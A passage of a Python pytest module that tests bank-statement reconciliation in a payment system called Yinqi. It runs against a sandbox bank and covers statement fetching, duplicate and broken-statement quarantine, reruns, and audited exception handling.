"""Reconciliation end to end: payments to a real sandbox bank process, the bank day closed,
its statements fetched and checked, matched against the payments, exceptions worked, the
morning report and its workbook.

One demo world (a Yinqi home, its database and a sandbox bank process) per backend, shared by
the tests of this module. The sandbox's clock only moves forward: a test that needs a bank
day of its own opens the next business day, pays, closes it (every closed business day is
fetched for every account, so the statements chain without gaps) and reconciles it. The first
day (the sandbox funds each account with one credit) is run once by the ``day_one`` fixture,
which every test waits for, so the tests hold in any order. Nothing sleeps blindly: the
pipeline's own loop (``drive``) runs until nothing is in flight, and the sandbox clock is moved
by its control API.
"""

from __future__ import annotations

import csv
import io
import itertools
import json
import re
import time
import tomllib
import uuid
from collections import Counter
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field
from datetime import UTC, date, datetime, time as clock_time, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import func, select, text

from conftest import BACKENDS, module_db_url
from sandbox_support import alert_only_risk_rules
from yinqi.cli.vouchers_cmd import run_import
from yinqi.demo.approve import approve_pending
from yinqi.demo.bank import HOLIDAYS, SANDBOX_DEFAULT
from yinqi.demo.setup import DemoWorld, demo_world
from yinqi.demo.vouchers import HEADER, generate
from yinqi.errors import InvalidValue
from yinqi.pipeline import Pacing, drive, open_work
from yinqi.recon import (
    FetchResult,
    ReconSummary,
    confirm,
    daily_report,
    export_xlsx,
    fetch_statements,
    import_statement_file,
    list_exceptions,
    match_by_hand,
    reconcile,
    write_off,
)
from yinqi.states import PaymentState as S
from yinqi.store.intake import ImportSummary
from yinqi.store.models import (
    Alert,
    AuditEventRow,
    Batch,
    Payment,
    ReconException,
    ReconMatch,
    ReconMatchItem,
)
from yinqi.store.models import Statement as StatementRow
from yinqi.store.models import StatementLine as LineRow
from yinqi.store.reconcile import load_lines
from yinqi.vouchers import end_to_end_id_for

SHANGHAI = ZoneInfo("Asia/Shanghai")
FIXTURES = Path(__file__).resolve().parents[1] / "fixtures"
ICBC_DEBTOR, ICBC_DEBTOR_2, CMB_DEBTOR = ("1202021209900123456", "1202021209900654321",
                                          "755912345610808")
AT_ICBC = ("杨磊", "49727250562552316", "中国工商银行北京分行营业部", "102100099996")
AT_ICBC_2 = ("李娜", "45401636481574033", "中国工商银行北京分行营业部", "102100099996")
ELSEWHERE = ("杨磊", "49505976717236739", "中国建设银行上海浦东分行", "105290036005")
# Accounts no Yinqi config knows: statement files for them are the tests' own (one account
# per test: statements chain per account).
OUTSIDE = "6214830000007319"
OUTSIDE_2 = "6214830000008426"
OUTSIDE_3 = "6214830000009535"
FAST = Pacing(base=0.2, ceiling=1.0, lease=timedelta(seconds=60))
MASKED = re.compile(r"^\*{4}.{4}$")


def funding() -> dict[str, Decimal]:
    """The sandbox's opening credit per company account (its configured balance)."""
    spec = tomllib.loads(SANDBOX_DEFAULT.read_text(encoding="utf-8"))
    return {a["number"]: Decimal(a["balance"]) for bank in spec["banks"].values()
            for a in bank["accounts"] if "balance" in a}


def business_day(day: date) -> bool:
    return day.weekday() < 5 and day not in HOLIDAYS


# --- a camt.053 file of the test's own making -------------------------------------------------


@dataclass
class Entry:
    amount: str  # signed: + money in, - money out
    e2e: str | None = None
    name: str | None = None
    account: str | None = None
    remittance: str | None = None


def camt053(account: str, statement_id: str, sequence: int, day: date, opening: str,
            entries: Sequence[Entry], *, closing: str | None = None,
            currency: str = "CNY") -> bytes:
    """A one-day camt.053.001.08 statement; ``closing`` defaults to one that adds up."""
    start = Decimal(opening)
    end = start + sum((Decimal(e.amount) for e in entries), Decimal(0)) if closing is None \
        else Decimal(closing)

    def balance(code: str, amount: Decimal) -> str:
        return (f"<Bal><Tp><CdOrPrtry><Cd>{code}</Cd></CdOrPrtry></Tp>"
                f'<Amt Ccy="{currency}">{abs(amount):.2f}</Amt>'
                f"<CdtDbtInd>{'CRDT' if amount >= 0 else 'DBIT'}</CdtDbtInd>"
                f"<Dt><Dt>{day.isoformat()}</Dt></Dt></Bal>")

    out = []
    for n, e in enumerate(entries, start=1):
        amount = Decimal(e.amount)
        sign, role = ("CRDT", "Dbtr") if amount > 0 else ("DBIT", "Cdtr")
        refs = f"<Refs><EndToEndId>{escape(e.e2e)}</EndToEndId></Refs>" if e.e2e else ""
        parties = ""
        if e.name or e.account:
            parties = ("<RltdPties>"
                       + (f"<{role}><Pty><Nm>{escape(e.name)}</Nm></Pty></{role}>" if e.name
                          else "")
                       + (f"<{role}Acct><Id><Othr><Id>{escape(e.account)}</Id></Othr></Id>"
                          f"</{role}Acct>" if e.account else "")
                       + "</RltdPties>")
        remittance = f"<RmtInf><Ustrd>{escape(e.remittance)}</Ustrd></RmtInf>" \
            if e.remittance else ""
        out.append(
            f'<Ntry><NtryRef>E{n}</NtryRef><Amt Ccy="{currency}">{abs(amount):.2f}</Amt>'
            f"<CdtDbtInd>{sign}</CdtDbtInd><Sts><Cd>BOOK</Cd></Sts>"
            f"<BookgDt><Dt>{day.isoformat()}</Dt></BookgDt><ValDt><Dt>{day.isoformat()}</Dt>"
            f"</ValDt><AcctSvcrRef>T{n:04d}{statement_id[-8:]}</AcctSvcrRef>"
            "<BkTxCd><Domn><Cd>PMNT</Cd><Fmly><Cd>ICDT</Cd><SubFmlyCd>DMCT</SubFmlyCd></Fmly>"
            f"</Domn></BkTxCd><NtryDtls><TxDtls>{refs}"
            f'<Amt Ccy="{currency}">{abs(amount):.2f}</Amt><CdtDbtInd>{sign}</CdtDbtInd>'
            f"{parties}{remittance}</TxDtls></NtryDtls></Ntry>")
    stamp = f"{day.isoformat()}T18:00:00+08:00"
    return ('<?xml version="1.0" encoding="UTF-8"?>\n'
            '<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.08"><BkToCstmrStmt>'
            f"<GrpHdr><MsgId>{statement_id}-M</MsgId><CreDtTm>{stamp}</CreDtTm></GrpHdr>"
            f"<Stmt><Id>{statement_id}</Id><ElctrncSeqNb>{sequence}</ElctrncSeqNb>"
            f"<CreDtTm>{stamp}</CreDtTm><FrToDt><FrDtTm>{day.isoformat()}T00:00:00+08:00"
            f"</FrDtTm><ToDtTm>{day.isoformat()}T23:59:59+08:00</ToDtTm></FrToDt>"
            f"<Acct><Id><Othr><Id>{account}</Id></Othr></Id><Ccy>{currency}</Ccy></Acct>"
            + balance("OPBD", start) + balance("CLBD", end) + "".join(out)
            + "</Stmt></BkToCstmrStmt></Document>\n").encode("utf-8")


def new_e2e() -> str:
    return "YQ" + uuid.uuid4().hex.upper()


# --- one world per backend --------------------------------------------------------------------


@pytest.fixture(scope="module", params=BACKENDS)
def db_url(request: pytest.FixtureRequest,
           tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The backend under test, once per module (the conftest one is per test)."""
    yield from module_db_url(request, tmp_path_factory, "reconcile-db")


@dataclass
class Line:
    """One voucher row."""

    debtor: str
    payee: tuple[str, str, str, str]
    amount: str


class World:
    def __init__(self, demo: DemoWorld) -> None:
        self.demo, self.app, self.home = demo, demo.app, demo.home
        self._approvals = itertools.count(1)
        self._started = datetime.now(UTC)
        self.first_day = self.bank_today()
        # Every business day before this one has been fetched for every account.
        self.fetched_through = self.first_day - timedelta(days=1)
        self.fetches: list[tuple[date, date, FetchResult]] = []

    # the bank's side

    def control(self, method: str, path: str, **kw: object) -> Any:
        return self.demo.control(method, path, **kw)

    def faults(self, **rates: object) -> None:
        self.control("PUT", "faults", content=json.dumps({"seed": 1, **rates}))

    def _advance(self, seconds: float) -> date:
        answer = self.control("POST", "clock", json={"advance_seconds": seconds})
        return datetime.fromisoformat(answer["now"]).astimezone(SHANGHAI).date()

    def bank_today(self) -> date:
        return self._advance(0)

    def open_day(self) -> date:
        """The bank's current business day (moving on over a weekend or holiday)."""
        today = self.bank_today()
        while not business_day(today):
            today = self._advance(86_400)
        self.fetch_closed()
        return today

    def close_day(self) -> date:
        """Close the bank's business day (its clock jumps to the next business morning) and
        fetch the statements of every day closed since the last fetch. Returns the day closed."""
        day = self.bank_today()
        today = self._advance(86_400)
        while not business_day(today):
            today = self._advance(86_400)
        self.fetch_closed()
        return day

    def fetch_closed(self) -> FetchResult | None:
        first, last = self.fetched_through + timedelta(days=1), \
            self.bank_today() - timedelta(days=1)
        if first > last:
            return None
        got = fetch_statements(self.app, None, first, last)
        assert got.errors == [] and got.intake.quarantined == [], (got.errors,
                                                                   got.intake.quarantined)
        self.fetches.append((first, last, got))
        self.fetched_through = last
        return got

    # Yinqi's side

    def import_lines(self, lines: list[Line], day: date) -> list[int]:
        """Vouchers of our own making for bank day ``day``, each line one payment, in order."""
        out = io.StringIO()
        w = csv.writer(out, lineterminator="\n")
        w.writerow(HEADER)
        tag = uuid.uuid4().hex[:8].upper()
        for i, ln in enumerate(lines):
            w.writerow([f"R{tag}{i:04d}", day.isoformat(), ln.debtor, *ln.payee, ln.amount,
                        "CNY", "货款", "供应商", "否", "wu.maker", day.isoformat()])
        summary = self.import_file(out.getvalue().encode("utf-8"), tag)
        assert summary.accepted == len(lines), summary.quarantined
        e2e = [end_to_end_id_for("erp", f"R{tag}{i:04d}") for i in range(len(lines))]
        with self.app.sessions() as s:
            by_e2e = dict(s.execute(select(Payment.end_to_end_id, Payment.id)
                                    .where(Payment.end_to_end_id.in_(e2e))).all())
        return [by_e2e[e] for e in e2e]

    def import_file(self, data: bytes, name: str) -> ImportSummary:
        path = self.home / "vouchers" / f"{name}.csv"
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(data)
        return run_import(self.app, path, imported_by="test")

    def pay(self, lines: list[Line], day: date) -> list[int]:
        """Import, approve and run to the end: each payment RECEIPTED (or FAILED)."""
        ids = self.import_lines(lines, day)
        self.approve()
        self.drive()
        return ids

    def approve(self) -> None:
        # A later moment each time: one-time codes are never reused.
        approve_pending(self.app, self._started + timedelta(seconds=60 * next(self._approvals)))

    def drive(self) -> None:
        """The pipeline's own loop until nothing is in flight (the deadline only guards)."""
        drive(self.app, pacing=FAST, deadline=time.monotonic() + 120)
        assert open_work(self.app) == (0, 0), "the pipeline did not finish within its deadline"

    def states(self, ids: Sequence[int]) -> dict[int, str]:
        with self.app.sessions() as s:
            return dict(s.execute(select(Payment.id, Payment.state)
                                  .where(Payment.id.in_(list(ids)))).all())

    def payment(self, pid: int) -> Payment:
        with self.app.sessions() as s:
            p = s.get_one(Payment, pid)
            s.expunge(p)
        return p

    def events(self, action: str, subject: int | None = None) -> list[AuditEventRow]:
        with self.app.sessions() as s:
            rows = s.execute(select(AuditEventRow).where(AuditEventRow.action == action)
                             .order_by(AuditEventRow.seq)).scalars().all()
            s.expunge_all()
        return [r for r in rows if subject is None or str(subject) in r.subject_ids]

    def alerts(self, kind: str) -> list[Alert]:
        with self.app.sessions() as s:
            rows = s.execute(select(Alert).where(Alert.kind == kind)
                             .order_by(Alert.id)).scalars().all()
            s.expunge_all()
        return list(rows)

    def exceptions(self, status: str | None = None) -> list[ReconException]:
        with self.app.sessions() as s:
            q = select(ReconException).order_by(ReconException.id)
            if status is not None:
                q = q.where(ReconException.status == status)
            rows = s.execute(q).scalars().all()
            s.expunge_all()
        return list(rows)

    def lines_of(self, statement_pk: int) -> list[LineRow]:
        with self.app.sessions() as s:
            rows = s.execute(select(LineRow).where(LineRow.statement_pk == statement_pk)
                             .order_by(LineRow.line_no)).scalars().all()
            s.expunge_all()
        return list(rows)

    def line_of(self, e2e: str) -> LineRow:
        """The bank's (accepted) statement line that carries ``e2e``."""
        with self.app.sessions() as s:
            [row] = s.execute(select(LineRow).join(StatementRow,
                                                   StatementRow.id == LineRow.statement_pk)
                              .where(LineRow.end_to_end_id == e2e,
                                     StatementRow.status == "accepted")).scalars().all()
            s.expunge(row)
        return row

    def statement(self, pk: int) -> StatementRow:
        with self.app.sessions() as s:
            row = s.get_one(StatementRow, pk)
            s.expunge(row)
        return row

    def matched(self, *, payment: int | None = None, line: int | None = None) -> int:
        """How many match items name this payment or line."""
        with self.app.sessions() as s:
            q = select(func.count()).select_from(ReconMatchItem)
            q = q.where(ReconMatchItem.payment_id == payment) if payment is not None \
                else q.where(ReconMatchItem.statement_line_id == line)
            return int(s.execute(q).scalar_one())

    def counts(self) -> dict[str, Any]:
        """Everything a reconciliation run may create or move."""
        with self.app.sessions() as s:
            def n(model: Any) -> int:
                return int(s.execute(select(func.count()).select_from(model)).scalar_one())

            return {
                "matches": n(ReconMatch), "items": n(ReconMatchItem),
                "statements": n(StatementRow), "lines": n(LineRow), "alerts": n(Alert),
                "exceptions": dict(Counter(s.execute(select(ReconException.status))
                                           .scalars())),
                "states": dict(s.execute(select(Payment.state, func.count())
                                         .group_by(Payment.state)).all()),
                "state_events": int(s.execute(select(func.count()).select_from(AuditEventRow)
                                              .where(AuditEventRow.action == "payment.state"))
                                    .scalar_one()),
            }

    def sql(self, statement: str, **params: object) -> None:
        with self.app.engine.begin() as conn:
            conn.execute(text(statement), params)

    def assert_audit_intact(self) -> None:
        with self.app.sessions() as s:
            verdict = self.app.audit.verify(s)
        assert verdict.ok, verdict


@pytest.fixture(scope="module")
def world(db_url: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    home = tmp_path_factory.mktemp("reconcile") / "home"
    alert_only_risk_rules(home / "config")
    with demo_world(home, database_url=db_url, settle_after=0.2) as demo:
        yield World(demo)


@dataclass
class DayOne:
    day: date
    ids: list[int]
    voucher_rows_quarantined: int
    after_drive: dict[int, str]
    fetched: FetchResult
    summary: ReconSummary
    after_reconcile: dict[int, str]
    exceptions: list[dict[str, Any]]
    report_before: dict[str, Any]
    written_off: list[int] = field(default_factory=list)
    report_after: dict[str, Any] = field(default_factory=dict)


@pytest.fixture(scope="module")
def day_one(world: World) -> DayOne:
    """The demo's morning on the sandbox's first day: generated vouchers (a few to a payee
    the bank refuses), approved, run to receipts; the day closed, fetched, reconciled; the
    sandbox's funding credits written off by the treasurer with the reason."""
    day = world.open_day()
    assert day == world.first_day
    data = generate(24, 11, day=day, bad_rows=2, refused_share=0.25)
    summary = world.import_file(data, "day-one")
    ids = summary.payment_ids
    world.approve()
    world.drive()
    after_drive = world.states(ids)
    assert world.close_day() == day
    [(first, last, fetched)] = world.fetches
    assert first == last == day
    recon = reconcile(world.app, first=day, last=day)
    after = world.states(ids)
    exceptions = list_exceptions(world.app)
    before = {r.account: r for r in daily_report(world.app, day)}
    out = DayOne(day, ids, len(summary.quarantined), after_drive, fetched, recon, after,
                 exceptions, before)
    for e in exceptions:
        if e["side"] == "line" and not e["amount"].startswith("-") and not e["reference"] \
                and not e["counterparty"]:
            write_off(world.app, e["id"], actor="liu.treasurer",
                      reason="opening balance: the sandbox bank funded the account")
            out.written_off.append(e["id"])
    out.report_after = {r.account: r for r in daily_report(world.app, day)}
    return out


@pytest.fixture
def w(world: World, day_one: DayOne) -> Iterator[World]:
    """The shared world after its first day, handed back with faults off and nothing left
    in flight."""
    world.faults()
    yield world
    world.faults()
    assert open_work(world.app) == (0, 0)


# --- 1. a day end to end ----------------------------------------------------------------------


def test_a_day_reconciles_every_receipted_payment_and_explains_every_balance(
        w: World, day_one: DayOne) -> None:
    d = day_one
    assert (len(d.ids), d.voucher_rows_quarantined) == (24, 2)
    states = Counter(d.after_drive.values())
    assert set(states) == {S.RECEIPTED.value, S.FAILED.value} and states["FAILED"] >= 2, states
    receipted = sorted(p for p, st in d.after_drive.items() if st == S.RECEIPTED.value)

    # One end-of-day statement per company account, all accepted.
    funded = funding()
    assert len(d.fetched.intake.accepted) == len(funded) == len(w.app.config.accounts)
    assert d.fetched.intake.duplicates == [] and d.fetched.errors == []
    for pk in d.fetched.intake.accepted:
        st = w.statement(pk)
        assert (st.status, st.from_date, st.to_date) == ("accepted", d.day, d.day)
        assert st.kind in ("camt.053", "cn-h2h")
        assert st.checks and st.checks["passed"] is True

    # Every payment the bank booked is reconciled; refused ones are untouched.
    assert d.after_reconcile == {p: S.RECONCILED.value if st == S.RECEIPTED.value else st
                                 for p, st in d.after_drive.items()}
    assert d.summary.reconciled == len(receipted) and d.summary.payments == len(receipted)
    assert d.summary.unmatched_payments == 0 and d.summary.returned == 0
    for pid in receipted:
        assert w.matched(payment=pid) == 1
        moved = [e for e in w.events("payment.state", pid) if e.details["to"] == "RECONCILED"]
        assert len(moved) == 1 and moved[0].actor == "yinqi.reconcile"

    # What no payment explains is exactly the sandbox's opening credit on each account.
    assert d.summary.unmatched_lines == d.summary.new_exceptions == len(funded)
    assert d.summary.lines == d.summary.matched_lines + d.summary.unmatched_lines
    assert {e["account"]: Decimal(e["amount"]) for e in d.exceptions} == funded
    assert all(e["side"] == "line" and e["reference"] is None and e["counterparty"] is None
               and e["day"] == d.day for e in d.exceptions)
    assert sorted(d.written_off) == sorted(e["id"] for e in d.exceptions)
    for account, row in d.report_before.items():
        assert Decimal(row.difference) == funded[account]
        assert (row.unmatched_lines, row.open_exceptions) == (1, 1)

    # After the write-off every account's bank balance is explained to the cent.
    report = d.report_after
    assert set(report) == set(funded)
    for account, row in report.items():
        assert row.difference == "0.00", row
        assert row.ledger_balance == row.bank_closing and row.bank_opening in ("0", "0.00")
        assert (row.statements, row.quarantined_statements) == (1, 0)
        assert row.lines == row.matched_lines + row.unmatched_lines + row.written_off_lines
        assert (row.unmatched_lines, row.written_off_lines, row.open_exceptions) == (0, 1, 0)
        assert Decimal(row.unmatched_amount) == 0
        assert Decimal(row.bank_closing) == Decimal(row.matched_amount) + funded[account]
        assert row.payments == (row.payments_reconciled + row.payments_unmatched
                                + row.payments_returned)
        assert row.payments_unmatched == 0
    assert sum(r.payments for r in report.values()) == len(receipted)
    assert sum(r.matched_lines for r in report.values()) == d.summary.matched_lines
    assert report[ICBC_DEBTOR].payments_reconciled > 0

    # Audited: the run (its summary) and each write-off with the treasurer's reason.
    runs = [e for e in w.events("reconcile.run")
            if e.details["first"] == e.details["last"] == d.day.isoformat()]
    assert runs and runs[0].details["reconciled"] == len(receipted)
    offs = [e for e in w.events("reconcile.written_off")
            if int(e.subject_ids[0]) in d.written_off]
    assert len(offs) == len(funded)
    assert {e.actor for e in offs} == {"liu.treasurer"}
    assert all(e.details["reason"].startswith("opening balance") for e in offs)
    assert {e.status for e in w.exceptions() if e.id in d.written_off} == {"written_off"}
    w.assert_audit_intact()


# --- 2. re-delivery -----------------------------------------------------------------------------


def test_a_statement_delivered_again_creates_nothing_and_a_changed_one_is_quarantined(
        w: World, day_one: DayOne, tmp_path: Path) -> None:
    before = w.counts()
    again = fetch_statements(w.app, None, day_one.day, day_one.day)
    assert (again.intake.accepted, again.intake.quarantined, again.errors) == ([], [], [])
    assert sorted(pk for _, pk in again.intake.duplicates) == \
        sorted(day_one.fetched.intake.accepted)
    assert w.counts() == before

    # A file taken in twice: the second time it is recognised, whatever the file is called.
    day = date(2021, 3, 1)
    sid = f"T-S{uuid.uuid4().hex[:10].upper()}"  # never all digits: those would be masked
    entries = [Entry("-120.50", new_e2e(), "北京华信科技股份有限公司", "6829597379400215148"),
               Entry("300.00", None, "上海申通物流有限公司", None, "货款")]
    first_file = tmp_path / "statement.xml"
    first_file.write_bytes(camt053(OUTSIDE, sid, 7, day, "1000.00", entries))
    got = import_statement_file(w.app, first_file)
    assert (len(got.accepted), got.quarantined, got.duplicates) == (1, [], [])
    [pk] = got.accepted
    copy = tmp_path / "statement-again.xml"
    copy.write_bytes(first_file.read_bytes())
    for path in (first_file, copy):
        twice = import_statement_file(w.app, path)
        assert (twice.accepted, twice.quarantined, twice.duplicates) == ([], [], [(sid, pk)])
    assert len(w.lines_of(pk)) == 2

    # Same statement ID and sequence, other content: not a re-delivery but a conflict.
    changed = tmp_path / "statement-changed.xml"
    changed.write_bytes(camt053(OUTSIDE, sid, 7, day, "1000.00",
                                [Entry("-125.50", entries[0].e2e, entries[0].name,
                                       entries[0].account), entries[1]]))
    conflict = import_statement_file(w.app, changed)
    assert (conflict.accepted, conflict.duplicates) == ([], [])
    [(qpk, reason)] = conflict.quarantined
    assert f"statement {sid} (sequence 7) was delivered before as #{pk}" in reason
    assert "different content" in reason
    row = w.statement(qpk)
    assert (row.status, row.reason) == ("quarantined", reason)
    assert w.statement(pk).status == "accepted"           # the first one stands
    [alert] = [a for a in w.alerts("statement.quarantined") if a.details["statement_pk"] == qpk]
    assert alert.severity == "warning" and alert.message == reason
    assert w.events("statement.quarantined", qpk)
    # Delivered once more, the conflicting file is a duplicate too: nothing new, no new alert.
    assert import_statement_file(w.app, changed).duplicates == [(sid, qpk)]
    assert len([a for a in w.alerts("statement.quarantined")
                if a.details["statement_pk"] == qpk]) == 1
    w.assert_audit_intact()


# --- 3. a broken statement ----------------------------------------------------------------------


def test_a_statement_that_does_not_add_up_is_quarantined_whole_and_never_matched(
        w: World, tmp_path: Path) -> None:
    day = w.open_day()
    [pid] = w.pay([Line(ICBC_DEBTOR_2, AT_ICBC_2, "777.01")], day)
    assert w.states([pid]) == {pid: "RECEIPTED"}
    p = w.payment(pid)

    # A statement of our own account that shows the payment, but whose closing balance is
    # 1.00 off: quarantined whole, the failing check named.
    broken = tmp_path / "broken.xml"
    broken.write_bytes(camt053(ICBC_DEBTOR_2, f"BROKEN-{uuid.uuid4().hex[:8]}", 1, day,
                               "10000.00", [Entry("-777.01", p.end_to_end_id, AT_ICBC_2[0],
                                                  AT_ICBC_2[1], "货款")],
                               closing="9223.99"))
    got = import_statement_file(w.app, broken)
    assert got.accepted == [] and got.duplicates == []
    [(pk, reason)] = got.quarantined
    assert reason.startswith("balance: ")
    row = w.statement(pk)
    assert row.status == "quarantined" and row.checks is not None
    assert row.checks["passed"] is False and row.checks["checks"]["balance"] == "failed"
    assert "balance" in {f["check"] for f in row.checks["failures"]}
    [line] = w.lines_of(pk)               # kept whole, for the operator to look at ...
    assert line.end_to_end_id == p.end_to_end_id
    [alert] = [a for a in w.alerts("statement.quarantined") if a.details["statement_pk"] == pk]
    assert "balance" in alert.message

    # ... but never used: not loaded, not matched, not queued.
    with w.app.sessions() as s:
        loaded = load_lines(s, None, day, day)
    assert line.id not in set(loaded["line_id"])
    reconcile(w.app, first=day, last=day)
    assert w.states([pid]) == {pid: "RECEIPTED"}
    assert w.matched(line=line.id) == 0
    assert line.id not in {e.statement_line_id for e in w.exceptions()}
    [report] = daily_report(w.app, day, [ICBC_DEBTOR_2])
    assert (report.statements, report.quarantined_statements) == (0, 1)

    # An MT940 file that does not add up either (a shipped sample) goes the same way.
    mt940 = import_statement_file(w.app, FIXTURES / "mt940" / "triodos.sta")
    [(mt_pk, mt_reason)] = mt940.quarantined
    assert "balance" in mt_reason and w.statement(mt_pk).checks["checks"]["balance"] == "failed"
    assert w.statement(mt_pk).kind == "mt940"

    # The bank's own statement of the day is what reconciles the payment.
    assert w.close_day() == day
    reconcile(w.app, first=day, last=day)
    assert w.states([pid]) == {pid: "RECONCILED"}
    assert w.matched(line=line.id) == 0
    assert w.matched(line=w.line_of(p.end_to_end_id).id) == 1
    [report] = daily_report(w.app, day, [ICBC_DEBTOR_2])
    assert (report.statements, report.quarantined_statements) == (1, 1)
    assert report.difference == "0.00"
    w.assert_audit_intact()


# --- 4. rerunning a day -------------------------------------------------------------------------


def test_rerunning_reconciliation_for_a_day_changes_nothing(w: World, day_one: DayOne) -> None:
    # The first day again: its matches stand, its written-off funding credits stay written
    # off (not queued again), nothing moves.
    before = w.counts()
    for kw in ({}, {"now": _noon(day_one.day) + timedelta(days=30)}):
        one = reconcile(w.app, first=day_one.day, last=day_one.day, **kw)
        assert (one.reconciled, one.returned, one.matched_lines, one.new_exceptions) == \
            (0, 0, 0, 0), one.as_json()
        assert w.counts() == before
    for row in daily_report(w.app, day_one.day):
        assert (row.difference, row.open_exceptions, row.written_off_lines) == ("0.00", 0, 1), \
            row

    # Every closed day so far (other tests may have left some unreconciled), then again.
    last = w.fetched_through
    reconcile(w.app, first=day_one.day, last=last)
    before = w.counts()
    for kw in ({}, {"now": _noon(last) + timedelta(days=30)}):
        again = reconcile(w.app, first=day_one.day, last=last, **kw)
        assert (again.reconciled, again.returned, again.matched_lines, again.new_exceptions) \
            == (0, 0, 0, 0), again.as_json()
        assert w.counts() == before
    w.assert_audit_intact()


# --- 5. exceptions -----------------------------------------------------------------------------


def _lost_payment(w: World, like: int, amount_minor: int, day: date) -> int:
    """A booked payment whose line never comes: written by SQL (as if the bank had said it
    settled and sent its receipt: RECEIPTED, so that the pipeline does not go and ask the
    bank for a receipt it never had), in a batch of its own executed on ``day``."""
    with w.app.sessions.begin() as s:
        p = s.get_one(Payment, like)
        b = s.get_one(Batch, p.batch_id)
        batch = Batch(msg_id=f"YQBLOST{uuid.uuid4().hex[:16].upper()}", bank=b.bank,
                      dialect=b.dialect, debtor_account_id=b.debtor_account_id,
                      currency=b.currency, state="COMPLETED", payment_count=1,
                      total_minor=amount_minor, execution_date=day)
        s.add(batch)
        s.flush()
        lost = Payment(end_to_end_id=new_e2e(), debtor_account_id=p.debtor_account_id,
                       creditor_name="南京紫金建材有限公司",
                       creditor_account="7355146295007888514",
                       creditor_bank_name=p.creditor_bank_name, creditor_cnaps=p.creditor_cnaps,
                       amount_minor=amount_minor, currency="CNY", purpose="货款",
                       category="供应商", requested_date=day, maker="wu.maker",
                       state=S.RECEIPTED.value, batch_id=batch.id, bank_reference=None)
        s.add(lost)
        s.flush()
        return int(lost.id)


def _noon(day: date) -> datetime:
    return datetime.combine(day, clock_time(12), SHANGHAI)


def test_exceptions_are_queued_when_due_and_each_resolution_is_audited(
        w: World, day_one: DayOne) -> None:
    after_days = w.app.config.reconciliation.exception_after_days
    assert after_days >= 1
    day = w.open_day()
    to_confirm, by_hand = w.pay([Line(ICBC_DEBTOR_2, AT_ICBC, "611.11"),
                                 Line(ICBC_DEBTOR_2, AT_ICBC_2, "622.22")], day)
    assert w.states([to_confirm, by_hand]) == {to_confirm: "RECEIPTED", by_hand: "RECEIPTED"}
    bank_e2e = {pid: w.payment(pid).end_to_end_id for pid in (to_confirm, by_hand)}
    # What Yinqi holds no longer says what the bank booked (reference, payee): no rule can
    # match these two; only a person can.
    for pid in (to_confirm, by_hand):
        w.sql("UPDATE payments SET end_to_end_id = :e, creditor_name = :n, "
              "creditor_account = :a WHERE id = :id", e=new_e2e(),
              n=w.app.fields.seal("广州白云皮具有限公司", "name"),
              a=w.app.fields.seal("6217001234567890123", "account"), id=pid)
    lost = _lost_payment(w, to_confirm, 63_333, day)
    ours = {to_confirm, by_hand, lost}

    assert w.close_day() == day
    lines = {pid: w.line_of(bank_e2e[pid]).id for pid in (to_confirm, by_hand)}

    # Within exception_after_days a payment may still get its line: no payment exception.
    early = _noon(day) + timedelta(days=after_days - 1)
    reconcile(w.app, first=day, last=day, now=early)
    assert w.states(ours) == {pid: "RECEIPTED" for pid in ours}
    open_now = {(e.payment_id, e.statement_line_id): e for e in w.exceptions("open")}
    assert not {p for p, _ in open_now} & ours
    line_exc = {pid: open_now[(None, lines[pid])] for pid in lines}
    for pid, e in line_exc.items():
        assert (e.account, e.day, e.amount_minor) == \
            (ICBC_DEBTOR_2, day, -w.payment(pid).amount_minor)
        assert e.candidates and e.candidates[0]["id"] == pid, e.candidates

    # Once older than that, each becomes a payment-side exception, once.
    late = _noon(day) + timedelta(days=after_days)
    queued = reconcile(w.app, first=day, last=day, now=late)
    assert queued.new_exceptions == 3
    pay_exc = {e.payment_id: e for e in w.exceptions("open") if e.payment_id in ours}
    assert set(pay_exc) == ours
    for pid, e in pay_exc.items():
        assert (e.account, e.day, e.amount_minor) == \
            (ICBC_DEBTOR_2, day, -w.payment(pid).amount_minor)
    listed = {e["id"]: e for e in list_exceptions(w.app)}
    assert listed[pay_exc[lost].id]["side"] == "payment"
    assert listed[pay_exc[lost].id]["amount"] == "-633.33"
    assert listed[line_exc[to_confirm].id]["side"] == "line"
    assert listed[line_exc[to_confirm].id]["reference"] == bank_e2e[to_confirm]
    again = reconcile(w.app, first=day, last=day, now=late + timedelta(days=5))
    assert again.new_exceptions == 0

    # Confirming the suggestion: one audited match, both sides' exceptions closed.
    match_id = confirm(w.app, line_exc[to_confirm].id, candidate=None, actor="liu.treasurer",
                       note="")
    assert w.states([to_confirm]) == {to_confirm: "RECONCILED"}
    closed = {e.id: e for e in w.exceptions("matched")}
    for e in (line_exc[to_confirm], pay_exc[to_confirm]):
        assert closed[e.id].resolved_by == "liu.treasurer"
    [event] = w.events("reconcile.matched_by_hand", match_id)
    assert event.actor == "liu.treasurer"
    assert (event.details["payments"], event.details["lines"]) == ([to_confirm],
                                                                   [lines[to_confirm]])
    assert sorted(event.details["exceptions_closed"]) == \
        sorted([line_exc[to_confirm].id, pay_exc[to_confirm].id])
    with pytest.raises(InvalidValue, match="no open exception"):
        confirm(w.app, line_exc[to_confirm].id, candidate=None, actor="liu.treasurer", note="")

    # Writing off: a reason is required; the payment stays as it is, the exception closes.
    with pytest.raises(InvalidValue, match="reason"):
        write_off(w.app, pay_exc[lost].id, actor="liu.treasurer", reason=" ")
    write_off(w.app, pay_exc[lost].id, actor="liu.treasurer",
              reason="entered twice in the ERP; the bank never had it")
    [done] = [e for e in w.exceptions("written_off") if e.id == pay_exc[lost].id]
    assert (done.resolved_by, done.resolution) == \
        ("liu.treasurer", "entered twice in the ERP; the bank never had it")
    [event] = w.events("reconcile.written_off", pay_exc[lost].id)
    assert (event.actor, event.details["payment_id"], event.details["amount_minor"]) == \
        ("liu.treasurer", lost, -63_333)
    assert w.states([lost]) == {lost: "RECEIPTED"}
    with pytest.raises(InvalidValue, match="no open exception"):
        write_off(w.app, pay_exc[lost].id, actor="liu.treasurer", reason="again")

    # Matching by hand: a note is required; what is written off or matched already cannot
    # be matched (again): it would be counted twice.
    with pytest.raises(InvalidValue, match="note"):
